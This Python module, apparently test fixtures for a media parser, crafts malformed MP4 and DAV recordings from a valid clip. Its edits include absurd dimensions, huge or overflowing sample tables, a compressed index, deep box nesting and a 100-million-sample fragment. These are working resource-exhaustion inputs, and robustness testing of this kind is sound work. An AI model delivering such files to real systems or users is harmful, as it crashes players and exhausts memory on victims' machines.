"""Recordings made to hurt whoever opens them, each from a good one by changing its index."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator

_HOLDERS = {b"moov", b"trak", b"mdia", b"minf", b"stbl", b"edts"}
Edit = Callable[[bytes], bytes]


def box(kind: bytes, body: bytes) -> bytes:
    """A box of ISO/IEC 14496-12."""
    return struct.pack(">I4s", 8 + len(body), kind) + body


def boxes(data: bytes) -> Iterator[tuple[bytes, bytes]]:
    """Kind and body of each box."""
    at = 0
    while at + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, at)
        yield kind, data[at + 8 : at + size]
        at += size


def edited(data: bytes, path: tuple[bytes, ...], edit: Edit) -> bytes:
    """``data`` with the body of each box at ``path`` changed. What lies before the moov stays where it is."""
    parts = []
    for kind, body in boxes(data):
        inside = body
        if kind == path[0]:
            inside = edited(body, path[1:], edit) if len(path) > 1 else edit(body)
        parts.append(box(kind, inside))
    return b"".join(parts)


def _huge(body: bytes) -> bytes:
    # The entry of a sample description: size, format, 6 reserved, index, 16 more, then width and height.
    at = 8 + 8 + 8 + 16
    return body[:at] + b"\xff\xff\xff\xff" + body[at + 4 :] if body[12:16] == b"avc1" else body


def _more_tracks(count: int) -> Edit:
    def edit(moov: bytes) -> bytes:
        track = next(box(kind, body) for kind, body in boxes(moov) if kind == b"trak")
        return moov + track * count

    return edit


def _nested(levels: int) -> bytes:
    data = b""
    for _ in range(levels):
        data = box(b"moov", data)
    return data


def _table(count: int, *values: int) -> Edit:
    """A full box with ``count`` entries, of which the first is there."""
    return lambda _body: struct.pack(f">II{len(values)}I", 0, count, *values)


def _in_samples(clip: bytes, **tables: Edit) -> bytes:
    for kind, edit in tables.items():
        clip = edited(clip, (b"moov", b"trak", b"mdia", b"minf", b"stbl", kind.encode()), edit)
    return clip


def _sizes(each: int, count: int) -> Edit:
    return lambda _body: struct.pack(">III", 0, each, count)


def _unit(ticks: int) -> Edit:
    return lambda clip: edited(
        clip, (b"moov", b"trak", b"mdia", b"mdhd"), lambda body: body[:12] + struct.pack(">I", ticks) + body[16:]
    )


def dimensions(clip: bytes) -> bytes:
    """Pictures of 65535 x 65535, by the index."""
    clip = edited(clip, (b"moov", b"trak", b"tkhd"), lambda body: body[:-8] + b"\xff\xff\0\0" * 2)
    return _in_samples(clip, stsd=_huge)


def one_chunk_again_and_again(clip: bytes) -> bytes:
    """20,000 pictures of 20,000 bytes, all of them the same bytes of the file: 400 MB out of 190 kB."""

    def same_place(body: bytes) -> bytes:
        return struct.pack(">II", 0, 20_000) + body[8:12] * 20_000

    return _in_samples(
        clip, stco=same_place, stsz=_sizes(20_000, 20_000), stsc=_table(1, 1, 1, 1), stts=_table(1, 20_000, 1)
    )


def packed_index(clip: bytes) -> bytes:
    """An index that unpacks to 2 GiB, and in truth to 200 MB."""
    packed = struct.pack(">I", 0x7FFFFFF0) + zlib.compress(bytes(200 << 20), 1)
    return edited(clip, (b"moov",), lambda _: box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", packed)))


def fragments(clip: bytes) -> bytes:
    """A fragment of 100 million pictures that takes 28 bytes to say."""
    run = box(b"trun", struct.pack(">II", 0, 100_000_000))
    header = box(b"tfhd", struct.pack(">IIII", 0x20018, 1, 512, 1))
    clip = edited(
        clip, (b"moov",), lambda moov: moov + box(b"mvex", box(b"trex", struct.pack(">6I", 0, 1, 1, 1, 1, 0)))
    )
    return clip + box(b"moof", box(b"mfhd", bytes(8)) + box(b"traf", header + run)) + box(b"mdat", bytes(100))


_MANY = 100_000_000
BOMBS: dict[str, Edit] = {
    "dimensions": dimensions,
    "2,000 tracks": lambda clip: edited(clip, (b"moov",), _more_tracks(2000)),
    "20,000 tracks": lambda clip: edited(clip, (b"moov",), _more_tracks(20_000)),
    "an index of 100 MB": lambda clip: edited(clip, (b"moov",), lambda moov: moov + box(b"udta", bytes(100 << 20))),
    "2^31 sizes of 1": lambda clip: _in_samples(clip, stsz=_sizes(1, 1 << 31)),
    "many sizes of 64 KiB": lambda clip: _in_samples(clip, stsz=_sizes(1 << 16, _MANY), stsc=_table(1, 1, _MANY, 1)),
    "many sizes of 0": lambda clip: _in_samples(clip, stsz=_sizes(0, _MANY), stsc=_table(1, 1, _MANY, 1)),
    "one chunk again and again": one_chunk_again_and_again,
    "2^32 - 1 times": lambda clip: _in_samples(clip, stts=_table(1, 0xFFFFFFFF, 1)),
    "times far apart": lambda clip: _in_samples(clip, stts=_table(1, 0xFFFFFFFF, 0x7FFFFFFF)),
    "2^30 entries of times": lambda clip: _in_samples(clip, stts=_table(1 << 30, 1, 1)),
    "2^32 - 1 offsets": lambda clip: _in_samples(clip, stco=_table(0xFFFFFFFF, 1)),
    "2^31 pictures in a chunk": lambda clip: _in_samples(clip, stsc=_table(1, 1, 0x7FFFFFFF, 1)),
    "a unit of time of 0": _unit(0),
    "a unit of time of 2^32 - 1": _unit(0xFFFFFFFF),
    "boxes in boxes": lambda clip: edited(clip, (b"moov",), lambda moov: moov + _nested(3000)),
    "a packed index": packed_index,
    "a fragment": fragments,
}


_DAV_HEADER = struct.Struct("<4sBBBBIIIHBB")


def _dav_frame(day: int, length: int = 32) -> bytes:
    date = 26 << 26 | 1 << 22 | day << 17 | 8 << 12
    header = _DAV_HEADER.pack(b"DHAV", 0xFD, 0, 0, 0, 0, length, date, 0, 0, 0)
    return header + struct.pack("<4sI", b"dhav", length)


DAV_BOMBS: dict[str, bytes] = {
    "lengths of 2^32 - 1": _dav_frame(16) * 2 + _dav_frame(16, 0xFFFFFFFF) * 30_000,
    "frames of nothing": _dav_frame(16) * 30_000,
    "a clock that jumps": (_dav_frame(16) * 2 + _dav_frame(15) * 2) * 10_000,
}
